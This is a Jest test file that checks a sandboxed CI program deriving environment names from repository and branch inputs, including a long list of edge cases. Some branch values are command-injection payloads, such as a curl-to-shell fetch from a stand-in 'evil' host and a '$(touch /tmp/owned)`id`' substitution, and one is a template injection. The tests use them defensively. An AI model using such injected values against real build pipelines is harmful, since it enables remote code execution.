import { environmentName } from '../../../src/pipeline/environments/environment-name';
import { base64, Sandbox } from '../step/run-script';

const program: string = require('#programs/environments/environment-name');

let sandbox: Sandbox;
beforeEach(() => {
  sandbox = new Sandbox();
});
afterEach(() => sandbox.remove());

const name = (repository: string, branch: string) =>
  sandbox.run(program, { REPOSITORY: repository, REF_BASE64: base64(branch) });

test.each([
  ['acme/hello', 'main'],
  ['acme/hello', 'refs/heads/main'],
  ['acme/hello', 'feature/Login Page'],
  ['acme/hello', 'x";curl${IFS}evil|sh;#'],
  ['acme/hello', '{{=workflow.parameters.repo}}'],
  ['acme/hello', '$(touch /tmp/owned)`id`'],
  ['acme/hello', 'ünïcödé-日本語-🚀'],
  ['acme/hello', '日本語'],
  ['acme/hello', '-rf'],
  ['acme/hello', '--help'],
  ['acme/hello', '----'],
  ['acme/hello', 'a\nb'],
  ['acme/hello', 'a\n'],
  ['acme/hello', '\n'],
  ['acme/hello', ' '],
  ['acme/hello', '%s%n\\n\\0'],
  ['acme/hello', '123'],
  ['acme/hello', 'x'.repeat(500)],
  ['acme/hello', `${'x'.repeat(13)}-y`],
  ['acme/hello', 'refs/tags/v1'],
  ['acme/hello', 'refs/heads/refs/heads/x'],
  ['acme/123', '456'],
  ['acme/日本', '日本'],
  ['acme/A-Very_Long.Repository-Name', 'A-Very_Long.Branch-Name'],
  ['acme/sub/group/hello', 'main'],
  ['hello', 'İI'],
])('%j at %j is named as environmentName does', (repository, branch) => {
  const ran = name(repository, branch);
  expect(ran).toMatchObject({ code: 0, outputs: { name: environmentName(repository, branch) } });
  expect(Object.keys(ran.outputs)).toEqual(['name']);
});

test('a branch that is empty, or no base64', () => {
  expect(name('acme/hello', '')).toMatchObject({ code: 1, message: 'the branch is empty', outputs: {} });
  expect(name('acme/hello', 'refs/heads/')).toMatchObject({ code: 1, message: 'the branch is empty', outputs: {} });
  const ran = sandbox.run(program, { REPOSITORY: 'acme/hello', REF_BASE64: 'no base64!' });
  expect(ran).toMatchObject({ code: 1, message: 'the branch is not valid base64', outputs: {} });
});
